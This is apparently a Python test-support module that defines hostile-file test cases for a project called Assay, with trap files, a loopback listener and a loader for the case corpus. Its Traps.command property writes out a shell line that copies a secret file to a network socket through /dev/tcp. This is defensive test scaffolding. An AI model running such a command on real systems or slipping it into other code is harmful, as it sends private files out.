"""What a hostile file is: how it is made, and how bringing it has to end."""

from __future__ import annotations

import importlib
import pkgutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import tests.hostile.files

DONE, AT_THE_DOOR = "done", "at the door"


@dataclass(frozen=True)
class Traps:
    """What no hostile file may reach, and what it aims at.

    ``secret`` is a file beside the data folder, ``mark`` one that must never be there, ``port`` a
    listener on loopback that nobody may call.
    """

    secret: Path
    mark: Path
    port: int

    @property
    def command(self) -> str:
        """A shell's way to spring them all."""
        return f"touch {self.mark}; cat {self.secret} > /dev/tcp/127.0.0.1/{self.port}"


@dataclass(frozen=True)
class Case:
    """One file. ``ends``: the reasons it may fail for; ``said``: part of the sentence.

    ``family`` is the row of the corpus in the research this follows. A file that ends as ``DONE``
    holds something that Assay keeps as data, or runs only where it can do nothing; the web refuses
    one ``AT_THE_DOOR``. ``called`` is the name it is uploaded under, where no disk takes that name.
    """

    family: int
    name: str
    make: Callable[[Path, Traps], Path]
    ends: tuple[str, ...]
    said: str = ""
    architecture: str | None = "digits"
    called: str | None = None


def corpus() -> tuple[Case, ...]:
    """Every case of every file in ``tests/hostile/files``. The folder is the list."""
    found: list[Case] = []
    for entry in pkgutil.iter_modules(tests.hostile.files.__path__):
        found += importlib.import_module(f"tests.hostile.files.{entry.name}").CASES
    return tuple(found)
